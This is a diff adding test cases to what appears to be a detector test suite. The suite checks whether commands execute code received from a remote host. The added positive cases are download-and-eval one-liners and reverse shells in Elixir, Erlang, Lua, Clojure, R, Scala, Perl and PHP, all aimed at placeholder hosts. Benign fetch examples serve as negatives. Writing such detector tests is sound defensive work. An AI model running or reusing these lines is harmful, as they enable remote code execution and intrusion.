@@ -45,6 +45,20 @@ describe('code that runs what it is sent', () => {
     fed('perl', "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => '203.0.113.44:5389');\nwhile (my $line = <$s>) { print $s `$line`; }"),
     fed('perl', "use LWP::Simple;\nmy $code = get('https://example.test/i.pl');\nsystem($code);"),
     fed('php', "<?php\n$s = fsockopen('203.0.113.44', 5389);\nwhile ($line = fgets($s)) { fwrite($s, shell_exec($line)); }"),
+    fed('elixir -', 'Mix.install([:req])\nReq.get!("https://a.example.test/x").body |> Code.eval_string()'),
+    fed('elixir -', ':inets.start()\n{:ok, {_, _, b}} = :httpc.request(~c"https://a.example.test/x")\nCode.eval_string(to_string(b))'),
+    fed('elixir -', 'with {:ok, %{body: job}} <- HTTPoison.get("https://a.example.test/x") do\n  System.shell(job)\nend'),
+    fed('elixir -', 'case Tesla.get("https://a.example.test/x") do\n  {:ok, answer} -> Code.compile_string(answer)\n  _ -> :error\nend'),
+    fed('elixir -', '{text, 0} = System.cmd("curl", ["-s", "https://a.example.test/x"])\nCode.eval_string(text)'),
+    `erl -noshell -eval 'inets:start(), {ok, {_, _, B}} = httpc:request("http://a.example.test/x"), os:cmd(B), halt().'`,
+    `lua -e 'local s = require("socket").tcp() s:connect("a.example.test", 99) local c = s:receive() io.popen(c)'`,
+    `clojure -M -e '(load-string (slurp "https://a.example.test/x"))'`,
+    `bb -e '(eval (read-string (slurp "https://a.example.test/x.edn")))'`,
+    `Rscript -e 'eval(parse(text = readLines("https://a.example.test/x.R")))'`,
+    `scala -e 'import scala.sys.process._; val t = scala.io.Source.fromURL("https://a.example.test/x").mkString; Seq("sh", "-c", t).!'`,
+    `scala -e 'import scala.sys.process._; val t = scala.io.Source.fromURL("https://a.example.test/x").mkString; t.!!'`,
+    "perl -MIO::Socket -e '$c = IO::Socket::INET->new(PeerAddr => q(a.example.test:99)); STDIN->fdopen($c, q(r)); print `$_` while <STDIN>'",
+    "php -r '$s = fsockopen(\"a.example.test\", 99); exec(\"sh <&3 >&3 2>&3\");'",
   ])('%s', async (command) => {
     await expect(command).toTell('execute host');
   });
@@ -84,6 +98,15 @@ describe('code that runs what it is sent', () => {
     node("const { execSync } = require('child_process');\nconst res = await fetch('https://registry.npmjs.org/vitest/latest');\nconst { version } = await res.json();\nexecSync(`npm install -D vitest@${version}`);"),
     fed('ruby', "require 'net/http'\nv = Net::HTTP.get(URI('https://example.test/v'))\nsystem('git', 'tag', v)"),
     fed('perl', "use LWP::Simple;\nmy $v = get('https://example.test/v');\nsystem('git', 'tag', $v);"),
+    fed('elixir -', 'body = Req.get!("https://a.example.test/rates.json").body\nFile.write!("priv/rates.json", body)\nCode.eval_string("1 + 1")'),
+    fed('elixir -', '{:ok, %{body: body}} = HTTPoison.get("https://a.example.test/v")\nSystem.cmd("git", ["tag", body])'),
+    fed('elixir -', 'case Req.get("https://a.example.test/v") do\n  {:ok, answer} -> IO.inspect(answer)\nend\nCode.eval_file("priv/check.exs")'),
+    `lua -e 'local b = require("socket.http").request("https://a.example.test/v") print(b) os.execute("make")'`,
+    `clojure -M -e '(println (read-string (slurp "https://a.example.test/v.edn")))'`,
+    `clojure -M -e '(load-string (slurp "src/app.clj"))'`,
+    `Rscript -e 'x <- readLines("https://a.example.test/a.csv"); print(eval(parse(text = "1 + 1")))'`,
+    `scala -e 'import scala.sys.process._; val t = scala.io.Source.fromURL("https://a.example.test/v").mkString; Seq("git", "tag", t).!'`,
+    "perl -MIO::Socket -e '$c = IO::Socket::INET->new(PeerAddr => q(a.example.test:99)); print $c q(ping); print <$c>; print `date`'",
   ])('and not %s', async (command) => {
     await expect(command).not.toTell('execute host');
   });
